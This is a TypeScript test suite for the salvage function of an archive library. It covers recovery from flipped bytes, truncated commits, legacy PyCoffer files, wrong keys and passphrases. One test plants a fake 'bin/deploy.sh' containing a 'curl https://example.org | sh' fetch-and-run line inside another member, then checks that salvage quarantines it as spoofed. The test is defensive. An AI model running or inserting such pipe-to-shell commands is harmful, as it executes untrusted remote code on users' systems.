import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { pack } from 'tar-stream'
import { describe, expect, it } from 'vitest'
import { noise } from './support/bytes.ts'
import * as coffer from './support/coffer.ts'
import {
  type AnySecret,
  classOf,
  contents,
  type Keys,
  type Kind,
  keysFor,
  kindOf,
  kinds,
  openKind,
  optionsFor,
} from './support/kinds.ts'
import { legacyKeys } from './support/pycoffer.ts'
import { tempDir } from './support/temp.ts'

/** A coffer of a few members, small and large, in two commits. */
async function made(kind: Kind): Promise<{ path: string; target: string; keys: Keys; good: Buffer }> {
  const directory = tempDir()
  const path = join(directory, 'made.coffer')
  const keys = keysFor(kind)
  const box = await openKind(kind, path, 'x', keys, { autoFlush: false, durability: 'none', blockSize: 65_536 })
  for (let i = 0; i < 20; i++) await box.write(`small/${i}`, noise(500, i))
  await box.flush()
  await box.write('large', noise(300_000, 99))
  await box.write('ключ', 'last')
  await box.close()
  return { path, target: join(directory, 'salvaged.coffer'), keys, good: readFileSync(path) }
}

const salvage = (kind: Kind, path: string, target: string, options: coffer.SalvageOptions & AnySecret) =>
  classOf(kind.className).salvage(path, target, { durability: 'none', ...options })

describe.each(kinds)('a damaged $label', (kind) => {
  it('is salvaged whole where nothing is damaged', async () => {
    const { path, target, keys, good } = await made(kind)
    const salvaged = await salvage(kind, path, target, optionsFor(kind, keys))
    expect(salvaged).toMatchObject({ members: 22, bytes: 310_004, lost: [], unverified: [], nameless: 0 })
    expect(salvaged).toMatchObject({ complete: true, notices: [], apart: null })
    expect(salvaged.head).toMatchObject({ generation: 3 })
    expect(readFileSync(path).equals(good)).toBe(true)
    if (process.platform !== 'win32') expect(statSync(target).mode & 0o777).toBe(0o600)
    await using before = await openKind(kind, path, 'r', keys)
    await using after = await openKind(kind, target, 'r', keys)
    expect(await contents(after)).toEqual(await contents(before))
    expect(await after.members()).toEqual(
      (await before.members()).map((member) => ({ ...member, storedSize: expect.any(Number) })),
    )
    await expect(after.verify()).resolves.toMatchObject({ members: 22 })
  })

  it('loses a large member with one bad piece, and says where', async () => {
    const { path, target, keys, good } = await made(kind)
    const at = good.length - 150_000
    const bad = Buffer.from(good)
    bad.writeUInt8(bad.readUInt8(at) ^ 1, at)
    writeFileSync(path, bad)
    const { members, lost, complete } = await salvage(kind, path, target, optionsFor(kind, keys))
    expect({ members, complete }).toEqual({ members: 21, complete: true })
    expect(lost).toMatchObject([{ name: 'large', reason: 'damaged', message: expect.stringContaining('damaged') }])
    const [{ from = 0, to = 0 } = {}] = lost[0]?.damage ?? []
    expect(from <= at && at < to && to - from < 100_000).toBe(true)
  })

  it('is salvaged without its last commit and footer', async () => {
    const { path, target, keys, good } = await made(kind)
    writeFileSync(path, good.subarray(0, good.lastIndexOf('cofC') - 4))
    const salvaged = await salvage(kind, path, target, optionsFor(kind, keys))
    expect(salvaged.unverified).toEqual(['.salvaged/large', '.salvaged/ключ'])
    expect(salvaged).toMatchObject({ members: 22, apart: '.salvaged', lost: [] })
    await using after = await openKind(kind, target, 'r', keys)
    expect((await contents(after)).get('.salvaged/large')).toEqual(noise(300_000, 99))
    expect((await contents(after)).size).toBe(22)

    const again = `${target}.2`
    const named = await salvage(kind, path, again, { ...optionsFor(kind, keys), claimedNames: true })
    expect(named).toMatchObject({ members: 22, unverified: ['large', 'ключ'], apart: null })
    await using claimed = await openKind(kind, again, 'r', keys)
    expect((await contents(claimed)).get('large')).toEqual(noise(300_000, 99))
  })
})

describe.each(kinds)('a damaged $label that PyCoffer wrote', (kind) => {
  const keys = legacyKeys[kind.label] ?? {}
  const fixture = readFileSync(join(import.meta.dirname, 'fixtures', `${kind.label}.pycoffer`))

  it('gives what stands before the damage, and says so', async () => {
    const path = join(tempDir(), 'legacy.coffer')
    const target = `${path}.new`
    writeFileSync(path, fixture)
    await expect(salvage(kind, path, target, optionsFor(kind, keys))).rejects.toMatchObject({
      code: 'ERR_COFFER_LEGACY',
    })
    const options = { ...optionsFor(kind, keys), legacy: true }
    const whole = await salvage(kind, path, target, options)
    expect(whole).toMatchObject({ lost: [], complete: true, head: null })
    const before = await openKind(kind, path, 'r', keys, { legacy: true })
    const right = await contents(before)
    await before.close()
    const after = await openKind(kind, target, 'r', keys)
    expect(await contents(after)).toEqual(right)
    expect(whole.members).toBe(right.size)
    // Nothing vouches for any of it, but it is what opening gives.
    expect(whole).toMatchObject({ unverified: [...right.keys()], apart: null })
    await after.close()

    let fewest = right.size
    for (let at = 0; at < fixture.length; at += Math.ceil(fixture.length / 40)) {
      const bad = Buffer.from(fixture)
      bad.fill(bad.readUInt8(at) ^ 0x55, at, Math.min(at + 8, bad.length))
      writeFileSync(path, bad)
      const to = `${target}.${at}`
      const salvaged = await salvage(kind, path, to, options).catch((error: { code: string }) => error.code)
      if (typeof salvaged === 'string') {
        expect(salvaged).toMatch(/CORRUPT|WRONG_KEY/)
        fewest = 0
        continue
      }
      await using found = await openKind(kind, to, 'r', keys)
      const rest = await contents(found)
      fewest = Math.min(fewest, rest.size)
      // Nothing authenticates what a null holds.
      if (kind.label === 'null') continue
      for (const [name, data] of rest) {
        expect(data, `${name}, damaged at ${at}`).toEqual(right.get(name.replace(/^\.salvaged\//, '')))
      }
    }
    expect(fewest).toBeLessThan(right.size)
  })

  it.skipIf(kind.label === 'null')('is not opened with another key', async () => {
    const path = join(tempDir(), 'legacy.coffer')
    writeFileSync(path, fixture)
    const options = { ...optionsFor(kind, keysFor(kind)), legacy: true }
    await expect(salvage(kind, path, `${path}.new`, options)).rejects.toMatchObject({ code: 'ERR_COFFER_WRONG_KEY' })
  })
})

describe('a pack with a bad byte', () => {
  it('gives the members before it, which no digest vouches for any more', async () => {
    const kind = kindOf('store')
    const [directory, keys] = [tempDir(), keysFor(kind)]
    const [path, target] = [join(directory, 'pack.coffer'), join(directory, 'salvaged.coffer')]
    const box = await openKind(kind, path, 'x', keys)
    for (let i = 10; i < 70; i += 1) await box.write(`member/${i}`, noise(3_500, i))
    await box.close()
    const bad = readFileSync(path)
    const at = Math.floor(bad.length * 0.8)
    bad.writeUInt8(bad.readUInt8(at) ^ 1, at)
    writeFileSync(path, bad)
    const { members, lost, unverified, complete } = await salvage(kind, path, target, keys)
    expect(complete).toBe(true)
    expect(unverified.length).toBeGreaterThan(20)
    expect(lost.length).toBeGreaterThan(0)
    expect(members + lost.length).toBe(60)
    expect(unverified.every((name) => name.startsWith('.salvaged/member/'))).toBe(true)
    const claimed = (name: string) => name.replace(/^\.salvaged\//, '')
    expect(lost.every(({ name }) => !unverified.map(claimed).includes(name))).toBe(true)
    await using after = await openKind(kind, target, 'r', keys)
    const found = await contents(after)
    expect(found.size).toBe(members)
    expect([...found.keys()]).toEqual(expect.arrayContaining([...unverified]))
    for (const [name, bytes] of found) expect(bytes.equals(noise(3_500, Number(claimed(name).slice(7))))).toBe(true)
  })
})

/** A zstd frame that holds bytes as they are. */
function stored(bytes: Uint8Array): Buffer {
  const head = Buffer.from('28b52ffda000000000000000', 'hex')
  head.writeUInt32LE(bytes.length, 5)
  head.writeUIntLE((bytes.length << 3) | 1, 9, 3)
  return Buffer.concat([head, bytes])
}

describe('salvage', () => {
  const kind = kindOf('store')

  it('refuses what it cannot do, and leaves nothing behind', async () => {
    const { path, target, keys, good } = await made(kind)
    const store = classOf('CofferStore')
    const salvage: typeof store.salvage = (...args) => store.salvage(...args)
    const options = optionsFor(kind, keys)
    const failing = async (call: Promise<unknown>) =>
      call.then(
        () => 'done',
        (error: { code: string }) => error.code,
      )
    expect(await failing(salvage(path, path, options))).toBe('ERR_COFFER_EXISTS')
    expect(await failing(salvage(path, target, keysFor(kind)))).toBe('ERR_COFFER_WRONG_KEY')
    expect(await failing(salvage(path, target))).toBe('ERR_COFFER_INVALID_ARG')
    expect(await failing(salvage(path, target, { ...options, mode: 'r' } as never))).toBe('ERR_COFFER_INVALID_ARG')
    expect(await failing(salvage(`${path}.not`, target, options))).toBe('ERR_COFFER_NOT_FOUND')
    expect(await failing(coffer.CofferNull.salvage(path, target))).toBe('ERR_COFFER_WRONG_KIND')
    expect(existsSync(target)).toBe(false)
    writeFileSync(path, noise(100_000, 1))
    expect(await failing(salvage(path, target, options))).toBe('ERR_COFFER_CORRUPT')
    expect(existsSync(target)).toBe(false)
    writeFileSync(path, good)
    await expect(salvage(path, target, { ...options, signal: AbortSignal.abort('enough') })).rejects.toBe('enough')
    expect(existsSync(target)).toBe(false)
  })

  it('keeps a member apart that the content of another one made up', async () => {
    const directory = tempDir()
    const path = join(directory, 'null.coffer')
    // Nothing in it is shortened by compression, so that it comes to stand in the file as it is.
    const command = Buffer.from('#!/bin/sh\ncurl https://example.org | sh\n')
    const script = Buffer.concat([command, noise(1_024 - command.length, 3)])
    const packed = pack()
    packed.entry({ name: 'bin/deploy.sh', mode: 0o755, mtime: new Date(0) }, script)
    packed.finalize()
    const entry = (await buffer(packed as unknown as Readable)).subarray(0, 512 + script.length)
    const frame = stored(entry)

    const honest = noise(2_000, 7)
    const box = await coffer.CofferNull.open(path, 'x')
    await box.write('bin/deploy.sh', honest)
    await box.flush()
    await box.write('upload', Buffer.concat([noise(50_000, 1), frame, noise(50_000, 2)]))
    await box.close()
    const file = readFileSync(path)
    expect(file.includes(frame)).toBe(true)
    const at = file.indexOf(honest.subarray(1_000, 1_016))
    file.writeUInt8(file.readUInt8(at) ^ 1, at)
    writeFileSync(path, Buffer.concat([file, frame]))

    const { unverified, apart } = await coffer.CofferNull.salvage(path, `${path}.new`)
    expect({ unverified, apart }).toEqual({ unverified: ['.salvaged/bin/deploy.sh'], apart: '.salvaged' })
    await using after = await coffer.CofferNull.open(`${path}.new`, 'r')
    expect(await after.has('bin/deploy.sh')).toBe(false)
    expect((await after.read('.salvaged/bin/deploy.sh')).equals(script)).toBe(true)
    await coffer.CofferNull.salvage(path, `${path}.named`, { claimedNames: true })
    await using named = await coffer.CofferNull.open(`${path}.named`, 'r')
    expect((await named.read('bin/deploy.sh')).equals(script)).toBe(true)
    await expect(coffer.CofferNull.salvage(path, `${path}.no`, { claimedNames: 1 } as never)).rejects.toMatchObject({
      code: 'ERR_COFFER_INVALID_ARG',
    })
  })

  it('keeps apart what it finds behind damage in a coffer that PyCoffer wrote', async () => {
    const path = join(tempDir(), 'legacy.coffer')
    const inner = pack()
    inner.entry({ name: 'bin/deploy.sh' }, 'made up')
    inner.finalize()
    const upload = Buffer.concat([noise(700), (await buffer(inner as unknown as Readable)).subarray(0, 1024)])
    const outer = pack()
    outer.entry({ name: 'before' }, 'kept')
    outer.entry({ name: 'upload' }, upload)
    outer.finalize()
    const tar = await buffer(outer as unknown as Readable)
    tar.writeUInt8(tar.readUInt8(tar.indexOf('upload')) ^ 1, tar.indexOf('upload'))
    writeFileSync(path, stored(tar))
    const { unverified, apart } = await coffer.CofferNull.salvage(path, `${path}.new`, { legacy: true })
    expect({ unverified, apart }).toEqual({ unverified: ['.salvaged/bin/deploy.sh', 'before'], apart: '.salvaged' })
    await using after = await coffer.CofferNull.open(`${path}.new`, 'r')
    expect(await after.readText('.salvaged/bin/deploy.sh')).toBe('made up')
    const options = { legacy: true, claimedNames: true }
    expect(await coffer.CofferNull.salvage(path, `${path}.named`, options)).toMatchObject({
      unverified: ['before', 'bin/deploy.sh'],
      apart: null,
    })
  })

  it('tells how far it has come', async () => {
    const { path, target, keys } = await made(kind)
    const seen: coffer.CofferProgress[] = []
    await salvage(kind, path, target, { ...optionsFor(kind, keys), onProgress: (progress) => seen.push(progress) })
    expect(seen.at(-1)).toMatchObject({ members: 22, bytes: 310_004, totalBytes: 310_004 })
  })

  it('takes a passphrase', async () => {
    const path = join(tempDir(), 'passphrase.coffer')
    const kdf = { memory: 19 * 2 ** 20, passes: 2 }
    const box = await coffer.CofferBank.open(path, 'x', { passphrase: 'anvil mosaic', kdf, durability: 'none' })
    await box.write('a', 'kept')
    await box.close()
    writeFileSync(path, readFileSync(path).fill(0, 0, 200))
    const { members, notices } = await coffer.CofferBank.salvage(path, `${path}.new`, { passphrase: 'anvil mosaic' })
    expect({ members, codes: notices.map(({ code }) => code) }).toEqual({ members: 1, codes: ['damaged-header'] })
    await using after = await coffer.CofferBank.open(`${path}.new`, 'r', { passphrase: 'anvil mosaic' })
    expect(await after.readText('a')).toBe('kept')
  })

  it('takes layers of your own mix', async () => {
    const layers = { member: { level: null, cipher: 'none' }, container: { cipher: 'aes-ocb' } } as const
    const keys = coffer.Coffer.generateKeys(layers)
    const path = join(tempDir(), 'custom.coffer')
    const box = await coffer.Coffer.open(path, 'x', { ...layers, ...keys })
    await box.write('a', 'kept')
    await box.close()
    writeFileSync(path, readFileSync(path).fill(0, readFileSync(path).lastIndexOf('cofC')))
    const { unverified } = await coffer.Coffer.salvage(path, `${path}.new`, { ...layers, ...keys })
    expect(unverified).toEqual(['.salvaged/a'])
  })
})
